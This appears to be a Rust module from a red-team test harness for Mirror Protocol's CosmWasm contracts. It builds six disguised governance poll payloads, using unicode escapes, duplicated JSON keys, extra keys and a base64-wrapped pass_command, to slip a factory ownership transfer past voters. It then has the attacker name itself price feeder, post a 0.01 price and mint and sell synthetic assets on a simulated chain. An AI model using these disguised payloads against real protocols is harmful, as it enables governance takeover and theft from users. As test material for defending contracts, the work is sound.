//! Messages that give a contract away, as execute polls that do not look like it.

use cosmwasm_std::{Addr, Binary};
use mirror_protocol::factory;
use mirror_testing::Addresses;
use serde_json::json;

use super::super::bundle::{base, Bundle};
use super::super::polls::{self, Motion, THIRD};
use super::super::scenes::{self, UNIT};
use super::super::stage::Stage;
use super::super::told::{Attempt, Findings};
use super::super::Attack;

pub(super) const ATTACK: Attack = Attack {
    name: "execute poll in disguise",
    story:
        "Who owns a contract decides all that it does, so that to give it away takes as much as \
            a migration; the same under an escape, behind a pass_command, or beside fields that \
            its target does not know, so that whoever judges it sees something else.",
    run,
};

/// The factory's message that makes the attacker its owner, and who gets it.
type Disguise = fn(&Addresses, &Addr) -> (Addr, String);

const DISGUISES: [(Disguise, &str); 6] = [
    (
        |at, thief| {
            let text = format!(r#"{{"update_config":{{"owner":"{thief}"}}}}"#);
            (at.factory.clone(), text)
        },
        "as it is",
    ),
    (
        |at, thief| {
            let text = format!(r#"{{"update\u005fconfig":{{"own\u0065r":"{thief}"}}}}"#);
            (at.factory.clone(), text)
        },
        "with letters as escapes",
    ),
    (
        |at, thief| {
            let text = format!(
                r#"{{"update_config":{{"owner":"{thief}","pair_code_id":1,"pair_code_id":2}}}}"#
            );
            (at.factory.clone(), text)
        },
        "beside a field twice that only the pair factory knows",
    ),
    (
        |at, thief| {
            let text = format!(
                r#"{{"update_config":{{"spend_limit":[],"owner":"{thief}","spend_limit":{{}}}}}}"#
            );
            (at.factory.clone(), text)
        },
        "beside a field twice that nobody there knows",
    ),
    (
        |at, thief| {
            let text = format!(r#"{{"distribute":{{}},"update_config":{{"owner":"{thief}"}}}}"#);
            (at.factory.clone(), text)
        },
        "as the second key of a message",
    ),
    (
        |at, thief| {
            let inner = format!(r#"{{"update_config":{{"owner":"{thief}"}}}}"#);
            let msg = Binary::from(inner.into_bytes()).to_base64();
            let oracle = &at.oracle;
            let text =
                format!(r#"{{"pass_command":{{"contract_addr":"{oracle}","msg":"{msg}"}}}}"#);
            (at.factory.clone(), text)
        },
        "for the oracle, passed on by the factory",
    ),
];

fn run() -> anyhow::Result<Findings> {
    let attempts = DISGUISES.map(|(disguise, how)| attempt(disguise, how));
    Ok(Findings {
        attempts: attempts.into_iter().collect::<anyhow::Result<_>>()?,
        exposures: vec![],
    })
}

fn attempt(disguise: Disguise, how: &str) -> anyhow::Result<Attempt> {
    let mut stage = polls::governed_with_apple(THIRD)?;
    let (contract, text) = disguise(&stage.world.at, &stage.attacker);
    let motion = Motion::execute_raw(&contract, Binary::from(text.into_bytes()));
    polls::passes(&mut stage, "T-87", &motion)?;
    uses(&mut stage)?;
    polls::leaves(&mut stage)?;
    stage.ends(format!(
        "with a third of the stake tried to be given the factory: {how}"
    ))
}

/// Whoever owns the factory or the oracle names himself feeder, and mints for next to nothing.
fn uses(stage: &mut Stage) -> anyhow::Result<()> {
    let (at, token) = (stage.world.at.clone(), stage.world.token("mAAPL"));
    let register = json!({ "register_asset": {
        "asset_token": token, "feeder": stage.attacker,
    } });
    let pass = factory::ExecuteMsg::PassCommand {
        contract_addr: at.oracle.to_string(),
        msg: cosmwasm_std::to_json_binary(&register)?,
    };
    let by_factory = stage.tries("T-01", Bundle::new().tells(&at.factory, &pass))?;
    let directly = stage.tries("T-01", Bundle::new().tells(&at.oracle, &register))?;
    if by_factory.is_none() && directly.is_none() {
        return Ok(());
    }
    stage.world.chain.pass(6);
    let feed = Bundle::new().feeds(&at.oracle, &token, scenes::price("0.01")?);
    stage.does(feed)?;
    scenes::mints_and_sells(stage, "T-41", base(1_500 * UNIT), "mAAPL")
}
